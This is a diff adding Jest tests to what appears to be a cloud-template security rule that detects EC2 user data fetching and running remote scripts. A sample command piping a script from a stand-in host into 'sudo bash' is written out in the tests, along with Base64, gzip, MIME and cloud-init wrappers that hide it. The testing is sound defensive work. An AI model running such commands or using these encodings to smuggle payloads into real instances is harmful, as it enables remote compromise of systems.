@@ -1,3 +1,4 @@
+import { gzipSync } from 'node:zlib';
 import { describe, expect, test } from '@jest/globals';
 import { trustScriptRules } from '../../../src/rules/generic/trust-script';
 import type { Trust } from '../../../src/templates/trust';
@@ -48,5 +49,56 @@ describe('scripts that run what they download', () => {
 
   test('a long line takes no long time', () => {
     expect(find('curl https://a.example '.repeat(5000))).toEqual([]);
+  });
+});
+
+describe('a script in Base64 is read:', () => {
+  const SCRIPT = '#!/bin/bash\ncurl -s https://get.stranger.example/i.sh | sudo bash\n';
+  const encode = (text: string) => Buffer.from(text).toString('base64');
+  const wrap = (text: string) => text.replace(/.{60}/g, '$&\n');
+  const find = (type: string, properties: Readonly<Record<string, unknown>>) =>
+    judge(trustScriptRules, 'TrustScriptHostKnown', one(type, properties));
+
+  test.each([
+    ['user data as EC2 takes it', encode(SCRIPT)],
+    ['user data in lines', wrap(encode(SCRIPT))],
+    ['compressed user data', gzipSync(SCRIPT).toString('base64')],
+    ['a script that decodes another one', `#!/bin/bash\necho ${encode(SCRIPT)} | base64 -d | bash\n`],
+    [
+      'a part of a MIME archive',
+      `Content-Type: text/x-shellscript\nContent-Transfer-Encoding: base64\n\n${wrap(encode(SCRIPT))}\n--b--`,
+    ],
+    [
+      'a file of cloud-init, in user data in Base64',
+      encode(`#cloud-config\nwrite_files:\n  - encoding: b64\n    content: ${encode(SCRIPT)}\n`),
+    ],
+  ])('%s', (_, userData) => {
+    expect(find('AWS::EC2::Instance', { UserData: userData })).toEqual([
+      'UserData: runs a script of get.stranger.example',
+    ]);
+  });
+
+  test('of a launch template and of a launch configuration', () => {
+    expect(find('AWS::EC2::LaunchTemplate', { LaunchTemplateData: { UserData: encode(SCRIPT) } })).toEqual([
+      'LaunchTemplateData.UserData: runs a script of get.stranger.example',
+    ]);
+    expect(find('AWS::AutoScaling::LaunchConfiguration', { UserData: encode(SCRIPT) })).toHaveLength(1);
+  });
+
+  test.each([
+    ['a script without a download', encode('#!/bin/bash\necho https://get.stranger.example/i.sh is documented\n')],
+    ['a picture', Buffer.from([0x89, 0x50, 0x4e, 0x47, ...Array.from({ length: 40 }, (_, n) => n)]).toString('base64')],
+    ['text that only looks like it', 'AAAABBBBCCCCDDDDEEEEFFFFGGGGHHHH'],
+    ['a compressed text that is cut', gzipSync(SCRIPT).subarray(0, 30).toString('base64')],
+  ])('and nothing is told for %s', (_, userData) => {
+    expect(find('AWS::EC2::Instance', { UserData: userData })).toEqual([]);
+  });
+
+  test('in linear time', () => {
+    const long = `base64 ${'A'.repeat(900_000)}`;
+    expect(find('AWS::EC2::Instance', { UserData: { 'Fn::Base64': long } })).toEqual([]);
+    expect(
+      find('AWS::EC2::Instance', { UserData: { 'Fn::Base64': `base64 ${'A'.repeat(20)}\n`.repeat(9_000) } }),
+    ).toEqual([]);
   });
 });
